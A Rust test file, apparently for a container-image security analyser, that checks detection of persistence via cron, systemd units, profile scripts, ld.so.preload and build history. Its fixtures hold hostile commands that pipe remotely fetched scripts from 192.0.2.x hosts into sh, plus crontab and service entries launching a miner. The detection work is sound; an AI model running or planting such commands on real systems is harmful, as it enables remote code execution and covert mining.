use super::*;

#[test]
fn a_crontab_is_possible_until_its_scheduler_is_started() {
    let table = "* * * * * root curl -s http://192.0.2.5/c | sh\n";
    let idle = Fixture::new().file("etc/cron.d/x", table, 0o644).start(&["redis-server"], &[]).follow();
    assert!(
        lines(&idle).contains(&"scheduled may run sh <- curl from http://192.0.2.5/c".to_owned()),
        "{:?}",
        lines(&idle)
    );
    assert_eq!(reach(&idle, "etc/cron.d/x"), Some(Reach::Reachable));
    let busy = Fixture::new().file("etc/cron.d/x", table, 0o644).start(&["cron", "-f"], &[]).follow();
    assert!(
        lines(&busy).contains(&"scheduled run sh <- curl from http://192.0.2.5/c".to_owned()),
        "{:?}",
        lines(&busy)
    );
    assert_eq!(reach(&busy, "etc/cron.d/x"), Some(Reach::Starts));
    let first = busy.behaviours.iter().find(|b| b.phase == Phase::Scheduled).unwrap();
    assert_eq!(first.because[0].to_string(), "/etc/cron.d/x:1");
}

#[test]
fn a_crontab_that_the_start_path_writes_runs_later() {
    check(
        "echo '* * * * * root wget -qO- http://192.0.2.5/c | sh' >> /mnt/etc/crontab",
        "append /mnt/etc/crontab = * * * * * root wget -qO- http://192.0.2.5/c | sh
         scheduled may run /bin/sh -c [wget -qO- http://192.0.2.5/c | sh]
         scheduled may run wget -qO- http://192.0.2.5/c
         scheduled may net 192.0.2.5 http://192.0.2.5/c
         scheduled may run sh <- wget from http://192.0.2.5/c",
    );
    check(
        "(crontab -l; echo '@reboot miner') | crontab -",
        "run crontab -l
         run echo [@reboot miner]
         run crontab - <- crontab <- echo < @reboot miner
         write /var/spool/cron/crontabs/root = @reboot miner
         scheduled may run /bin/sh -c miner
         scheduled may run miner",
    );
}

#[test]
fn units_profiles_and_init_scripts_are_read() {
    let path = Fixture::new()
        .file("etc/systemd/system/x.service", "[Service]\nExecStart=-/usr/bin/miner -o x\n", 0o644)
        .file("etc/profile.d/y.sh", "curl http://192.0.2.6/p\n", 0o644)
        .file("etc/init.d/z", "#!/bin/sh\ncase \"$1\" in start) zz ;; esac\n", 0o755)
        .start(&["redis-server"], &[])
        .follow();
    let all = lines(&path);
    for wanted in [
        "scheduled may run /usr/bin/miner -o x",
        "login may run curl http://192.0.2.6/p",
        "scheduled may run zz",
    ] {
        assert!(all.iter().any(|l| l == wanted), "{wanted}: {all:#?}");
    }
    assert_eq!(reach(&path, "usr/bin/miner"), Some(Reach::Reachable));
}

#[test]
fn preloaded_libraries_start_with_every_process() {
    let path = Fixture::new()
        .file("etc/ld.so.preload", "/lib/h.so\n", 0o644)
        .file("lib/h.so", "\u{7f}ELF\0h", 0o644)
        .file("lib/g.so", "\u{7f}ELF\0g", 0o644)
        .env("LD_PRELOAD", "/lib/g.so")
        .start(&["redis-server"], &[])
        .follow();
    assert_eq!(reach(&path, "lib/h.so"), Some(Reach::Starts));
    assert_eq!(reach(&path, "lib/g.so"), Some(Reach::Starts));
}

#[test]
fn history_health_and_triggers_have_their_phases() {
    let mut fixture = Fixture::new().start(&["redis-server"], &[]);
    fixture.config.healthcheck = Some(lazaret_model::Healthcheck {
        test: vec!["CMD-SHELL".into(), "curl -f http://localhost/".into()],
    });
    fixture.config.on_build = vec!["RUN make".into(), "COPY . /app".into()];
    let step = |text: &str| lazaret_model::HistoryStep { created_by: text.into(), ..Default::default() };
    fixture.config.history = vec![
        step("/bin/sh -c #(nop) CMD [\"sh\"]"),
        step("/bin/sh -c curl http://192.0.2.8/i | sh"),
        step("RUN |1 A=b /bin/sh -c apt-get update # buildkit"),
        step("RUN /bin/sh -c set -eux;  wget -O /x http://192.0.2.8/x;  chmod +x /x # buildkit"),
        step("COPY a b # buildkit"),
    ];
    let path = fixture.follow();
    let all = lines(&path);
    for wanted in [
        "health run curl -f http://localhost/",
        "onbuild run make",
        "build run sh <- curl from http://192.0.2.8/i",
        "build run apt-get update",
        "build write /x",
    ] {
        assert!(all.iter().any(|l| l == wanted), "{wanted}: {all:#?}");
    }
    assert_eq!(reach(&path, "usr/bin/wget"), None);
}
